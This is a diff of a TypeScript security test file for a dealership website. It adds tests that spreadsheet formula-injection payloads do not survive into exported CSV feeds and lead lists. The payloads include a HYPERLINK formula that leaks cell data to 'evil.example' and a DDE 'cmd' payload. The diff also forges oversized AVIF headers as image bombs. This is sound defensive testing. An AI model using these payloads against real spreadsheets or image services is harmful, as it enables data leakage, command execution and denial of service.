@@ -7,11 +7,14 @@
  * | a published sheet that redirects to somebody's host | `functions/clients/published-csv.test.ts` |
  * | an id, a redirect or a query of Drive's that leads elsewhere | `functions/clients/google-drive.test.ts` |
  * | markup, marks of direction, NUL and 10,000 characters in names | here; `unit/sync/sheet-row.invalid.test.ts` |
- * | a formula in what is downloaded | `unit/vehicles/feed-csv.test.ts`, `unit/leads/leads-csv.test.ts` |
- * | a sheet, a photo or a file that unfolds to gigabytes | here; `unit/photos/photo-size.test.ts`, `functions/clients/google-sheets.test.ts` |
+ * | a formula in what is downloaded | here; `unit/vehicles/feed-csv.test.ts`, `unit/leads/leads-csv.test.ts` |
+ * | names of Drive's files and folders | `worker/photo-sync.test.ts` |
+ * | a sheet, a photo or a file that unfolds to gigabytes | here; `unit/photos/image-bombs.test.ts`, `unit/photos/photo-size.test.ts`, `functions/clients/google-sheets.test.ts` |
  * | a call of the sheet's script forged, repeated, early or late | `worker/stock-sync.test.ts`, `unit/sync/sheet-signature.test.ts` |
+ * | secrets in what vendors answer | `worker/sync-secrets.test.ts` |
  * | secrets in bundles | `worker/browser-bundles.test.ts` |
  */
+import { randomUUID } from "node:crypto";
 import { mkdtempSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
@@ -20,7 +23,9 @@ import { createClient, type SupabaseClient } from "@supabase/supabase-js";
 import type { Miniflare } from "miniflare";
 import sharp from "sharp";
 import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
+import { isVinCheckDigitValid } from "~/vehicles/vin";
 import "../../local/backend/web-socket-name";
+import { readCsv } from "../contracts/google/read-csv";
 import { findFreePort } from "../site/free-port";
 import { send } from "../site/send";
 import { signIn } from "../site/sign-in";
@@ -198,6 +203,55 @@ test("markup is text, a mark of direction turns nothing around, and a name witho
   expect(await read(`/vehicle/${ids[2]}`)).toContain("2020 Kia Rio");
 });
 
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  "+1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(A1)",
+  "\t=1+1",
+  "|calc",
+  "%0A=1",
+  "＝1+1",
+  "\u200B=1+1",
+] as const;
+/** What a spreadsheet runs, at the beginning of a cell or after blanks. */
+const RUN = /^\s*[=+\-@|%＝＋－＠]|^[\t\r\n]/u;
+
+/** The same with the ninth character that its sum asks for: Google takes no other. */
+function makeTrueVin(number: number): string {
+  const vin = makeVin(number);
+  const digits = [..."0123456789X"].map((digit) => `${vin.slice(0, 8)}${digit}${vin.slice(9)}`);
+  return digits.find(isVinCheckDigitValid) ?? vin;
+}
+
+test("a formula in the sheet is one in no file that a spreadsheet opens", async () => {
+  const names = FORMULAS.flatMap((formula) => [
+    `2020 ${formula} Rio`,
+    `2020 Kia ${formula}`,
+    `2020 Kia Rio ${formula}`,
+  ]);
+  const rows = names.map((name, index) => {
+    const color = (FORMULAS[index % FORMULAS.length] ?? "").replaceAll("|", "");
+    return [name, `${color} | 10 miles`, "9000", makeTrueVin(100 + index), "", "1"];
+  });
+  expect(await bringIn(rows)).toMatchObject({ state: "succeeded", counts: { added: rows.length } });
+  const feed = readCsv(await read("/feeds/google-vehicles.csv"));
+  const vins = rows.map(([, , , vin]) => vin);
+  expect(feed.filter(([vin]) => vins.includes(vin ?? ""))).toHaveLength(rows.length);
+
+  const [name = "", , , vin = ""] = rows[1] ?? [];
+  const fields = {
+    ...{ key: randomUUID(), opened: String(Date.now() - 5000), website: "", subject: "test-drive" },
+    ...{ name: FORMULAS[0], email: "ana@example.com", phone: "(407) 555-0171", message: FORMULAS[1] },
+    ...{ vehicle: name, vin },
+  };
+  const taken = await send("POST", `${site}/contact`, { Origin: site }, fields);
+  expect(taken.headers.location).toMatch(/^\/contact\/thanks/);
+  const leads = readCsv((await read("/staff/leads.csv")).replace("\uFEFF", ""));
+  expect(leads.flat()).toContain(`'${FORMULAS[0]}`);
+  expect([...feed, ...leads].flat().filter((cell) => RUN.test(cell))).toEqual([]);
+});
+
 const GIGABYTE = 1024 ** 3;
 
 test("a sheet that unfolds to a gigabyte is left at 20 MB, and the Worker goes on", async () => {
@@ -213,7 +267,7 @@ test("a sheet that unfolds to a gigabyte is left at 20 MB, and the Worker goes o
 });
 
 /** The same picture claiming 30,000 by 30,000 pixels, of which VP8 in a WebP holds 16,383 at the most. */
-async function forge(format: "jpeg" | "png" | "webp"): Promise<Buffer> {
+async function forge(format: "jpeg" | "png" | "webp" | "avif"): Promise<Buffer> {
   const bytes = await sharp({ create: { width: 300, height: 200, channels: 3, background: "#203040" } })
     .toFormat(format)
     .toBuffer();
@@ -221,13 +275,14 @@ async function forge(format: "jpeg" | "png" | "webp"): Promise<Buffer> {
     jpeg: [bytes.indexOf(Buffer.from([0xff, 0xc0])) + 5, [0x75, 0x30, 0x75, 0x30]],
     png: [16, [0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]],
     webp: [bytes.indexOf("VP8 ") + 14, [0xff, 0x3f, 0xff, 0x3f]],
+    avif: [bytes.indexOf("ispe") + 8, [0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]],
   } as const;
   const [at, claim] = claims[format];
   bytes.set(claim, at);
   return bytes;
 }
 
-test.each(["jpeg", "png", "webp"] as const)(
+test.each(["jpeg", "png", "webp", "avif"] as const)(
   "a %s of 30,000 by 30,000 pixels behind a photo's address is no photo",
   async (format) => {
     const bomb = await forge(format);
